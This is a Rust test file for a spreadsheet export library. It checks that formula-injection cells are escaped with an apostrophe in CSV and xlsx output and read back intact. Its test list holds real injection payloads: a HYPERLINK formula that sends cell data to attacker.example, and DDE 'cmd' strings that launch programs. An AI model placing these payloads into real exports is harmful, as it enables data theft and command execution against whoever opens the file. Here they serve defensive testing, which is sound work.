//! Formula injection (issue 17): a cell a spreadsheet would evaluate is written as text (a
//! leading apostrophe), in CSV and .xlsx alike, and read back as the value it was.

use calamine::{Data, Reader, Xlsx};
use tsunagu_tabular::{Format, read, write_csv, write_xlsx};

const HYPERLINK: &str = r#"=HYPERLINK("http://attacker.example/?q="&A1,"詳細")"#;

const DANGEROUS: &[&str] = &[
    HYPERLINK,
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝１＋１",
];

fn one_column(cells: &[String]) -> Vec<Vec<String>> {
    cells
        .iter()
        .map(|cell| vec![cell.clone(), "x".to_string()])
        .collect()
}

fn round_trip(cells: &[String]) {
    let rows = one_column(cells);
    for (format, bytes) in [
        (Format::Csv, write_csv(&["名称", "備考"], &rows)),
        (
            Format::Xlsx,
            write_xlsx("資源", &["名称", "備考"], &rows).expect("xlsx"),
        ),
    ] {
        let sheet = read(&bytes, format).expect("readable");
        let back: Vec<&str> = sheet.rows.iter().map(|row| row.cell(0)).collect();
        let sent: Vec<&str> = cells.iter().map(String::as_str).collect();
        assert_eq!(back, sent, "{format:?}");
    }
}

/// The cells of the first worksheet as a spreadsheet program sees them (not through our reader).
fn xlsx_cells(bytes: &[u8]) -> Vec<Data> {
    let mut workbook: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
    let name = workbook.sheet_names()[0].clone();
    let range = workbook.worksheet_range(&name).unwrap();
    range.rows().skip(1).map(|row| row[0].clone()).collect()
}

#[test]
fn cells_a_spreadsheet_would_evaluate_are_written_with_an_apostrophe() {
    let cells: Vec<String> = DANGEROUS.iter().map(|c| c.to_string()).collect();
    let csv = String::from_utf8(write_csv(&["名称", "備考"], &one_column(&cells))).unwrap();
    for line in csv.lines().skip(1).filter(|line| !line.is_empty()) {
        let first = line.trim_start_matches('"');
        assert!(first.starts_with('\''), "unescaped CSV cell: {line:?}");
    }
    assert!(
        csv.contains(r#""'=HYPERLINK(""http://attacker.example/?q=""&A1,""詳細"")""#),
        "{csv}"
    );

    let xlsx = write_xlsx("資源", &["名称", "備考"], &one_column(&cells)).unwrap();
    for (cell, original) in xlsx_cells(&xlsx).iter().zip(DANGEROUS) {
        assert_eq!(cell, &Data::String(format!("'{original}")));
    }
    round_trip(&cells);
}

#[test]
fn a_value_that_begins_with_an_apostrophe_comes_back_as_it_was() {
    let cells: Vec<String> = ["'=x", "''", "'", "'0123", "'plain", "''=y"]
        .iter()
        .map(|c| c.to_string())
        .collect();
    round_trip(&cells);
}

#[test]
fn negative_numbers_stay_numbers() {
    // A spreadsheet reads `-300` as the number it is: nothing to escape, and SUM adds it up.
    let cells: Vec<String> = ["-300", "+5", "-0.25"].iter().map(|c| c.to_string()).collect();
    let csv = String::from_utf8(write_csv(&["差"], &[vec![cells[0].clone()]])).unwrap();
    assert!(csv.ends_with("\r\n-300\r\n"), "{csv:?}");
    round_trip(&cells);
}

/// A small deterministic generator (xorshift64*): the same cases on every run, many of them
/// built from the characters the guard is about.
struct Cases(u64);

impl Cases {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    fn string(&mut self) -> String {
        const ALPHABET: &[char] = &[
            '\'', '\'', '=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ' ', '0', '5', '.', 'a', 'Z', '＝',
            '＋', '－', '＠', '詳', '細', 'ｶ', '🍙', '\u{3000}', '\u{7}',
        ];
        let length = (self.next() % 8) as usize;
        (0..length)
            .map(|_| match self.next() % 10 {
                // Now and then any scalar value, surrogates excluded by `from_u32`.
                0 => char::from_u32((self.next() % 0x11_0000) as u32).unwrap_or('x'),
                _ => ALPHABET[(self.next() % ALPHABET.len() as u64) as usize],
            })
            .collect()
    }
}

#[test]
fn read_of_write_is_the_identity_over_arbitrary_strings() {
    let mut cases = Cases(0x5eed_1234_abcd_0017);
    for _ in 0..200 {
        let cells: Vec<String> = (0..16)
            .map(|_| cases.string())
            // Readers drop what no spreadsheet can hold: NUL and the all-blank row.
            .map(|cell| cell.replace('\0', ""))
            .collect();
        // A blank first cell is kept by the second column "x"; xlsx cannot hold every control
        // character, so compare through the formats that can.
        let rows = one_column(&cells);
        let csv = write_csv(&["名称", "備考"], &rows);
        let sheet = read(&csv, Format::Csv).unwrap();
        let back: Vec<&str> = sheet.rows.iter().map(|row| row.cell(0)).collect();
        assert_eq!(back, cells.iter().map(String::as_str).collect::<Vec<_>>());
        let printable: Vec<String> = cells
            .iter()
            .map(|cell| {
                cell.chars()
                    .filter(|c| !c.is_control() || matches!(c, '\t' | '\r' | '\n'))
                    .collect()
            })
            .collect();
        let xlsx = write_xlsx("資源", &["名称", "備考"], &one_column(&printable)).unwrap();
        let sheet = read(&xlsx, Format::Xlsx).unwrap();
        let back: Vec<&str> = sheet.rows.iter().map(|row| row.cell(0)).collect();
        assert_eq!(back, printable.iter().map(String::as_str).collect::<Vec<_>>());
    }
}
